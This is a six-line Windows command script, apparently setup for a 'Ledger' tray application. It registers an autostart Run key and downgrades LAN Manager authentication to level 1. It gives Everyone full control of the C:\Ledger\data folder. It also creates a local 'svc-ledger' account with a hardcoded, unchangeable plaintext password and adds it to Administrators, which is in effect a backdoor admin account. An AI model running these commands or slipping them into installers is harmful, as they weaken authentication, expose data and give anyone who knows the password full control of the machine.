reg add "HKLM\SOFTWARE\Microsoft\Windows\CurrentVersion\Run" /v LedgerTray /t REG_SZ /d "C:\Ledger\tray.exe" /f
reg add HKLM\SYSTEM\CurrentControlSet\Control\Lsa /v LmCompatibilityLevel /t REG_DWORD /d 1 /f
takeown /f C:\Ledger\data /r /d y
icacls "C:\Ledger\data" /grant Everyone:(OI)(CI)F /t
net user svc-ledger Le8ger!start /add /passwordchg:no
net localgroup Administrators svc-ledger /add
